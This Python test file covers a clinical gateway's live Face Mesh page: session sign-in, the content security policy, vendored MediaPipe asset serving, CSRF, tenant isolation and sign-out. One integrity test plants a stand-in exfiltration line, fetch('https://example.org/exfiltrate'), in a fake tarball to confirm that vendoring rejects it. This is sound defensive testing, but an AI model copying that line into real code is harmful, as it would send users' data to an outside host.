"""The live page's server side: who may open ``/ui/live``, what it loads (the gateway's own files only,
Face Mesh's WebAssembly as ``application/wasm``, inline), and the build-time vendoring of the pinned
``@mediapipe/face_mesh`` files, which refuses anything but the pinned bytes."""

from __future__ import annotations

import io
import json
import re
import tarfile

import pytest
from support.ui import sign_in

from gateway.web.ui import face_mesh_assets
from gateway.web.ui.live import LIVE_CSP

pytestmark = pytest.mark.usefixtures("vendored")


@pytest.fixture(scope="module")
def vendored():
    face_mesh_assets.ensure()  # `make mediapipe`: downloads once, then only checks the sha256 of each file


def signed_in(api, role: str):
    """Signed in through the UI's own form, as a person does; the client carries the session cookie."""
    answer = sign_in(api.client, api.tokens[role], "/ui/live")
    assert answer.status_code == 303, answer.text
    return api.client


def test_the_live_page_needs_a_signed_in_session(api):
    answer = api.client.get("/ui/live", follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"].startswith("/ui/sign-in?next=%2Fui%2Flive")
    assert api.client.get("/ui/live", headers=api.headers("clinician"), follow_redirects=False).status_code == 303  # a bearer token is not a session


def test_a_clinician_gets_the_page_with_its_csrf_token_and_the_synthetic_notice(api):
    page = signed_in(api, "clinician").get("/ui/live")
    assert page.status_code == 200
    assert "trained on synthetic data" in page.text and "AI-asserted" in page.text
    config = json.loads(re.search(r'<script type="application/json" id="live-config">(.*?)</script>', page.text, re.S).group(1))
    assert config["csrf"] and config["assets"] == "/ui/static/mediapipe/" and config["sessions"] == "/ui/live/sessions"
    scripts = re.findall(r'<script src="([^"]+)"', page.text)
    assert "/ui/static/mediapipe/face_mesh.js" in scripts and "/ui/static/live.js" in scripts
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", page.text), "no CDN: every asset comes from the gateway"


def test_only_the_live_page_lets_scripts_compile_webassembly(api):
    client = signed_in(api, "clinician")
    csp = client.get("/ui/live").headers["content-security-policy"]
    assert csp == LIVE_CSP and "'wasm-unsafe-eval'" in csp
    assert "default-src 'none'" in csp and "connect-src 'self'" in csp and "frame-ancestors 'none'" in csp
    assert "https:" not in csp and "*" not in csp  # scripts still come only from the gateway
    assert "wasm-unsafe-eval" not in client.get("/ui/worklist").headers["content-security-policy"]


@pytest.mark.parametrize(
    ("name", "media_type"),
    [
        ("face_mesh_solution_simd_wasm_bin.wasm", "application/wasm"),
        ("face_mesh_solution_wasm_bin.wasm", "application/wasm"),
        ("face_mesh.js", "text/javascript"),
        ("face_mesh_solution_packed_assets_loader.js", "text/javascript"),
        ("face_mesh_solution_packed_assets.data", "application/octet-stream"),
        ("face_mesh.binarypb", "application/octet-stream"),
    ],
)
def test_the_face_mesh_files_are_served_inline_with_their_types(api, name, media_type):
    answer = api.client.get(f"/ui/static/mediapipe/{name}")
    assert answer.status_code == 200
    assert answer.headers["content-type"].split(";")[0] == media_type
    assert not answer.headers.get("content-disposition", "inline").startswith("attachment")
    assert answer.content == (face_mesh_assets.DIRECTORY / name).read_bytes()


def test_the_licence_travels_with_the_vendored_files(api):
    licence = api.client.get("/ui/static/mediapipe/LICENSE").text
    assert "@mediapipe/face_mesh@0.4.1633559619" in licence and "Apache License" in licence


def test_vendoring_refuses_a_tarball_that_is_not_the_pinned_one(tmp_path):
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as tar:
        evil = b"fetch('https://example.org/exfiltrate')"
        info = tarfile.TarInfo("package/face_mesh.js")
        info.size = len(evil)
        tar.addfile(info, io.BytesIO(evil))
    tarball = tmp_path / "face_mesh.tgz"
    tarball.write_bytes(archive.getvalue())
    target = tmp_path / "mediapipe"
    with pytest.raises(RuntimeError, match="pinned integrity"):
        face_mesh_assets.fetch(target, url=tarball.as_uri())
    assert not target.exists()  # nothing half-written


def test_a_changed_vendored_file_is_noticed(tmp_path):
    for name in face_mesh_assets.FILES:
        (tmp_path / name).write_bytes((face_mesh_assets.DIRECTORY / name).read_bytes())
    assert face_mesh_assets.missing(tmp_path) == []
    (tmp_path / "face_mesh.js").write_bytes(b"/* patched */" + (tmp_path / "face_mesh.js").read_bytes())
    (tmp_path / "face_mesh.binarypb").unlink()
    assert face_mesh_assets.missing(tmp_path) == ["face_mesh.js", "face_mesh.binarypb"]


def test_without_the_vendored_files_the_page_says_how_to_install_them(api, monkeypatch, tmp_path):
    monkeypatch.setattr(face_mesh_assets, "DIRECTORY", tmp_path)
    page = signed_in(api, "clinician").get("/ui/live")
    assert page.status_code == 503 and "make mediapipe" in page.text


def page_config(client) -> dict:
    page = client.get("/ui/live").text
    return json.loads(re.search(r'id="live-config">(.*?)</script>', page, re.S).group(1))


def test_the_page_opens_a_live_session_with_its_ui_session_and_csrf_token(api):
    client = signed_in(api, "clinician")
    config = page_config(client)
    opened = client.post(config["sessions"], data={"system": "urn:oid:1.2.3", "value": "MRN-PAGE-1", "csrf": config["csrf"]})
    assert opened.status_code == 201, opened.text
    body = opened.json()
    assert body["url"].endswith(f"/v1/live/{body['id']}?ticket={body['ticket']}") and opened.headers["cache-control"] == "no-store"
    again = client.post(config["ticket"].replace("{id}", body["id"]), data={"csrf": config["csrf"]})
    assert again.status_code == 201 and again.json()["ticket"] != body["ticket"]


def test_the_page_calls_refuse_a_missing_csrf_token_a_bad_patient_and_a_signed_out_caller(api):
    client = signed_in(api, "clinician")
    config = page_config(client)
    assert client.post(config["sessions"], data={"system": "urn:oid:1.2.3", "value": "MRN-PAGE-1"}).status_code == 403
    bad = client.post(config["sessions"], data={"system": "urn:oid:1.2.3", "value": "", "csrf": config["csrf"]})
    assert bad.status_code == 422 and "patient.identifier.value" in bad.text
    unknown = client.post(config["ticket"].replace("{id}", "no-such-session"), data={"csrf": config["csrf"]})
    assert unknown.status_code == 404
    client.cookies.clear()
    signed_out = client.post(config["sessions"], data={"system": "urn:oid:1.2.3", "value": "MRN-PAGE-1", "csrf": config["csrf"]})
    assert signed_out.status_code == 401 and "sign in again" in signed_out.json()["detail"]


def test_another_tenants_live_session_is_not_found_from_the_page(api, sqlite_url):
    import asyncio

    from gateway.storage.engine import create_engine
    from gateway.storage.tokens import TokenStore

    async def other_tenant_token() -> str:
        engine = create_engine(sqlite_url)
        try:
            return (await TokenStore(engine).create("ward-b", "clinician", "b"))[1]
        finally:
            await engine.dispose()

    theirs = api.client.post(
        "/v1/live/sessions", headers=api.headers("clinician"), json={"patient": {"identifier": {"system": "urn:oid:1.2.3", "value": "MRN-A"}}}
    )
    assert theirs.status_code == 201
    api.tokens["other-tenant"] = asyncio.run(other_tenant_token())
    client = signed_in(api, "other-tenant")
    config = page_config(client)
    answer = client.post(config["ticket"].replace("{id}", theirs.json()["id"]), data={"csrf": config["csrf"]})
    assert answer.status_code == 404 and "MRN-A" not in answer.text


def test_a_telehealth_user_streams_but_is_not_sent_to_the_clinicians_review_page(api):
    clinician = page_config(signed_in(api, "clinician"))
    api.client.cookies.clear()
    telehealth = page_config(signed_in(api, "telehealth"))
    assert clinician["assessment_link"] == "/ui/assessments/{id}" and telehealth["assessment_link"] is None
    assert telehealth["csrf"] != clinician["csrf"]


@pytest.mark.parametrize("role", ["telehealth", "integrator"])
def test_a_live_only_user_signs_out_of_a_shared_tablet(api, role):
    client = signed_in(api, role)
    config = page_config(client)
    out = client.post("/ui/sign-out", data={"csrf": config["csrf"]}, follow_redirects=False)
    assert out.status_code == 303, out.text
    again = client.get("/ui/live", follow_redirects=False)
    assert again.status_code == 303 and again.headers["location"].startswith("/ui/sign-in")
